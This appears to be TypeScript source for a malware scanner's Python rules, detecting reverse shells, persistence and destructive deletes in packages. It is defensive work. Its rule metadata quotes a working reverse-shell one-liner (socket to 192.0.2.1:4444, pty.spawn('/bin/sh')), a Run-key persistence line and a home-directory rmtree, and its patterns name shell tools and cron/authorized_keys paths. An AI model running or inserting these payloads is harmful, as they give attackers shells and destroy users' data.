import type { Severity } from '../../../core/types.js';
import { analyzeCommand } from '../../shell/command.js';
import type { PyContext, PyRule } from '../engine.js';
import type { Node } from '../parser.js';
import { textOf } from '../values.js';
import { indicators } from './credentials.js';
import { PROCESS_CALLS, preview, py } from './helpers.js';

export const reverseShell: PyRule = {
  meta: {
    ...py,
    id: 'PY-010',
    name: 'python-reverse-shell',
    category: 'backdoor',
    severity: 'critical',
    confidence: 'high',
    description:
      "A socket is connected and wired to a shell (os.dup2 of the socket, pty.spawn), or commands received from the network (a socket, an HTTP response, a chat bot's message handler) are run.",
    rationale:
      'This is the textbook Python reverse shell: it hands an attacker an interactive shell on the machine that installed the package.',
    falsePositives: 'Remote-debugging and terminal-sharing tools.',
    example: "s=socket.socket(); s.connect(('192.0.2.1',4444)); os.dup2(s.fileno(),0); pty.spawn('/bin/sh')",
    references: ['https://attack.mitre.org/techniques/T1059/006/'],
  },
  create(ctx) {
    let connect: Node | undefined;
    let dup: Node | undefined;
    let shellProc: Node | undefined;
    let remoteCommand: Node | undefined;
    return {
      call(node: Node) {
        const name = ctx.callee(node);
        const fn = node.childForFieldName('function');
        const method = fn?.type === 'attribute' ? fn.childForFieldName('attribute')?.text : undefined;
        if (
          name === 'socket.create_connection' ||
          (method === 'connect' && ctx.taint(fn?.childForFieldName('object')).has('conn'))
        )
          connect ??= node;
        if (name === 'os.dup2' && /fileno/.test(node.text)) dup ??= node;
        if (name === 'pty.spawn') shellProc ??= node;
        if (name && PROCESS_CALLS.has(name)) {
          const { positional, keywords } = ctx.args(node);
          const cmd = positional[0] ?? keywords.get('args');
          if (cmd && ctx.taint(cmd).has('remote')) {
            // Commands read from a socket or an HTTP response are run: a remote shell / C2 agent.
            remoteCommand ??= node;
          }
          const stdin = keywords.get('stdin')?.text ?? '';
          if (
            /fileno|sock|conn|\bs\b/.test(stdin) ||
            /\/bin\/(ba)?sh\b.*-i|cmd\.exe|powershell/.test(node.text)
          )
            shellProc ??= node;
        }
      },
      'module:exit'() {
        if (remoteCommand) {
          ctx.report({
            node: remoteCommand,
            message:
              'Runs commands received from the network (socket or HTTP response): a remote shell / C2 agent.',
            evidence: { kind: 'remote-command' },
          });
          return;
        }
        if (!connect || !(dup || shellProc)) return;
        const at = dup ?? shellProc!;
        ctx.report({
          node: at,
          message: `Connects a socket (line ${connect.startPosition.row + 1}) and binds a shell to it (line ${at.startPosition.row + 1}): a reverse shell.`,
          evidence: { connectLine: connect.startPosition.row + 1 },
        });
      },
    };
  },
};

export const persistence: PyRule = {
  meta: {
    ...py,
    id: 'PY-011',
    name: 'persistence',
    category: 'persistence',
    severity: 'high',
    confidence: 'medium',
    description:
      'Code installs itself to run again later: Windows Run keys or Startup folder, scheduled tasks, cron, systemd units, launch agents, shell rc files (critical when what is written there downloads and runs or opens a shell), or rewrites the arguments of shortcuts it finds on disk (a browser started with --load-extension).',
    rationale:
      'A library has no business registering programs to start at logon; RATs and miners delivered through PyPI do it to survive reboots.',
    falsePositives: 'Service installers and shell-completion setup helpers (which write to ~/.bashrc).',
    example: "winreg.SetValueEx(key, 'Updater', 0, winreg.REG_SZ, exe)  # key = ...\\CurrentVersion\\Run",
    references: [
      'https://attack.mitre.org/techniques/T1547/001/',
      'https://attack.mitre.org/techniques/T1053/',
    ],
  },
  create(ctx) {
    const patterns = indicators().raw.persistence.map((p) => ({
      re: new RegExp(p.pattern, 'i'),
      kind: p.kind,
      severity: p.severity,
    }));
    const seen = new Set<string>();
    const check = (node: Node, text: string | undefined) => {
      if (!text || text.length < 5 || text.length > 8192) return;
      for (const p of patterns) {
        if (seen.has(p.kind) || !p.re.test(text)) continue;
        seen.add(p.kind);
        // What the persisted entry runs: a cron line or Run key that starts a reverse shell or a
        // download-and-run is a backdoor being installed, not a scheduler library's example.
        const payload = analyzeCommand(text).find(
          (t) =>
            (t.category === 'backdoor' || t.category === 'dropper') &&
            (t.severity === 'high' || t.severity === 'critical'),
        );
        ctx.report({
          node,
          severity: payload ? 'critical' : (p.severity as Severity),
          weak: !payload && p.severity !== 'high',
          message: payload
            ? `Refers to a ${p.kind} that ${payload.description} (${preview(text, 80)}).`
            : `Refers to a ${p.kind} (${preview(text, 80)}).`,
          evidence: { kind: p.kind, ...(payload ? { payload: payload.id, match: payload.match } : {}) },
        });
      }
    };
    return {
      string(node: Node) {
        if (node.parent?.type === 'concatenated_string') return;
        check(node, textOf(ctx.evaluate(node)));
      },
      binary_operator(node: Node) {
        if (node.parent?.type === 'binary_operator') return;
        check(node, textOf(ctx.evaluate(node)));
      },
      assignment(node: Node) {
        // `sc = shell.CreateShortcut(root + '\\' + f)` over files found by os.walk, then
        // `sc.Arguments = '--load-extension=...'`: existing shortcuts rewritten so that the user's
        // own browser or program starts with the attacker's extension or arguments.
        if (seen.has('shortcut hijack')) return;
        const left = node.childForFieldName('left');
        const attr = left?.type === 'attribute' ? left.childForFieldName('attribute')?.text : undefined;
        const obj = left?.type === 'attribute' ? left.childForFieldName('object') : undefined;
        if (!attr || !/^(Arguments|TargetPath)$/.test(attr) || obj?.type !== 'identifier') return;
        const b = ctx.lookup(obj.text, node.startIndex, node);
        const create = b?.kind === 'assign' && b.value?.type === 'call' ? b.value : undefined;
        const fn = create?.childForFieldName('function');
        if (fn?.type !== 'attribute' || fn.childForFieldName('attribute')?.text !== 'CreateShortcut') return;
        const walked = create!
          .childForFieldName('arguments')
          ?.descendantsOfType('identifier')
          .some((id) => !!id && ctx.lookup(id.text, id.startIndex, id)?.kind === 'for');
        const value = textOf(ctx.evaluate(node.childForFieldName('right')));
        const extension = !!value && /--load-extension|--disable-extensions-except/i.test(value);
        if (!walked && !extension) return;
        seen.add('shortcut hijack');
        ctx.report({
          node,
          severity: 'high',
          message: `Rewrites the ${attr} of ${walked ? 'existing shortcuts it finds on disk' : 'a shortcut'}${extension ? ' to load a browser extension' : ''}: a launch hijack.`,
          evidence: { kind: 'shortcut hijack', walked, extension },
        });
      },
      call(node: Node) {
        const fn = node.childForFieldName('function');
        if (fn && /join|format/.test(fn.text)) check(node, textOf(ctx.evaluate(node)));
        // open('~/.ssh/authorized_keys', 'a'): planting an SSH key is a login backdoor.
        const name = ctx.callee(node);
        if (name !== 'open' && name !== 'io.open' && name !== 'codecs.open') return;
        const { positional, keywords } = ctx.args(node);
        const mode = ctx.evaluateString(positional[1] ?? keywords.get('mode')) ?? '';
        const path = ctx.evaluateString(positional[0] ?? keywords.get('file'));
        if (!/[aw+]/.test(mode) || !path) return;
        if (RC_FILE.test(path)) {
          // What is appended to a shell start-up file runs in every new shell: a downloader or
          // reverse shell there is a backdoor; completion and PATH lines are not.
          const payload = writtenContent(ctx, node)
            .flatMap((text) => shellPayloads(text))
            .find(
              (t) =>
                (t.category === 'backdoor' || t.category === 'dropper') &&
                (t.severity === 'high' || t.severity === 'critical'),
            );
          if (payload && !seen.has('write:rc')) {
            seen.add('write:rc');
            ctx.report({
              node,
              severity: 'critical',
              message: `Writes a command that ${payload.description} into a shell start-up file (${preview(path, 60)}): it runs in every new shell.`,
              evidence: { kind: 'shell start-up file', path, payload: payload.id, match: payload.match },
            });
          }
          return;
        }
        const target = /(?:^|[/\\])authorized_keys2?$/.test(path)
          ? 'SSH authorized_keys'
          : /(?:^|\/)(?:etc\/cron|var\/spool\/cron)/.test(path)
            ? 'cron table'
            : undefined;
        if (!target || seen.has(`write:${target}`)) return;
        seen.add(`write:${target}`);
        ctx.report({
          node,
          severity: 'high',
          message: `Writes to the ${target} (${preview(path, 80)}): persistent access to the machine.`,
          evidence: { kind: target, path, mode },
        });
      },
    };
  },
};

const RC_FILE = /(?:^|[/\\])\.(?:bashrc|bash_profile|bash_login|zshrc|zprofile|profile)$/;

/** Constant text written through the handle `open(...)` gives: `with open(p, 'a') as f: f.write(x)`. */
function writtenContent(ctx: PyContext, open: Node): string[] {
  const out: string[] = [];
  const pattern = open.parent?.type === 'as_pattern' ? open.parent : undefined;
  const alias = pattern?.childForFieldName('alias') ?? pattern?.namedChildren[1];
  const handle = alias?.type === 'as_pattern_target' ? alias.namedChildren[0] : alias;
  let body: Node | null | undefined;
  for (let p = open.parent; p; p = p.parent) {
    if (p.type === 'with_statement') {
      body = p.childForFieldName('body');
      break;
    }
  }
  const writes: Node[] = [];
  if (open.parent?.type === 'attribute') {
    // `open(p, 'a').write(x)`
    const call = open.parent.parent;
    if (call?.type === 'call') writes.push(call);
  } else if (handle?.type === 'identifier' && body) {
    for (const c of body.descendantsOfType('call')) {
      const fn = c?.childForFieldName('function');
      if (c && fn?.type === 'attribute' && fn.childForFieldName('object')?.text === handle.text)
        writes.push(c);
    }
  }
  for (const w of writes) {
    if (
      !/^(write|writelines)$/.test(
        w.childForFieldName('function')?.childForFieldName('attribute')?.text ?? '',
      )
    )
      continue;
    const text = textOf(ctx.evaluate(ctx.args(w).positional[0]));
    if (text) out.push(text);
  }
  return out;
}

/**
 * Shell techniques in a script and in the quoted scripts it carries (`bash -c '...'`,
 * `echo "wget ... && ./x" >> f.sh`), one level down: rc-file payloads nest their real command.
 */
function shellPayloads(text: string): ReturnType<typeof analyzeCommand> {
  const out = analyzeCommand(text);
  const unquote = (t: string) => t.replace(/\\(["'\\$])/g, '$1');
  const nested = [text];
  for (let i = 0; i < nested.length && i < 20; i++) {
    const t = nested[i]!;
    for (const m of t.matchAll(/(?:-c|\becho|\beval)\s+(?:'([^']{8,})'|"((?:[^"\\]|\\.){8,})")/g)) {
      const inner = m[1] ?? unquote(m[2] ?? '');
      nested.push(inner);
      out.push(...analyzeCommand(inner));
    }
  }
  return out;
}

const ROOTS =
  /^(\/|~|~\/|%USERPROFILE%|%HOMEPATH%|%APPDATA%|%LOCALAPPDATA%|[A-Za-z]:\\?\\?|\/home\/?|\/Users\/?|\.)$/;

export const destructive: PyRule = {
  meta: {
    ...py,
    id: 'PY-013',
    name: 'destructive-payload',
    category: 'destruction',
    severity: 'critical',
    confidence: 'medium',
    description:
      "Code deletes a whole home, root or drive folder (shutil.rmtree('/'), rmtree(os.path.expanduser('~'))) or wipes files it walks.",
    rationale: "Wipers and protestware delete the victim's data; no library deletes a user's home directory.",
    falsePositives:
      'Cleanup helpers that operate on a build folder whose path happens to be computed as the current directory.',
    example: "shutil.rmtree(os.path.expanduser('~'))",
    references: ['https://attack.mitre.org/techniques/T1485/'],
  },
  create(ctx) {
    return {
      call(node: Node) {
        const name = ctx.callee(node);
        if (name !== 'shutil.rmtree' && name !== 'os.removedirs' && name !== 'os.rmdir') return;
        const target = ctx.evaluateString(ctx.args(node).positional[0]);
        if (!target || !ROOTS.test(target.trim()) || target.trim() === '.') return;
        ctx.report({ node, message: `Deletes ${target} recursively.`, evidence: { target } });
      },
    };
  },
};
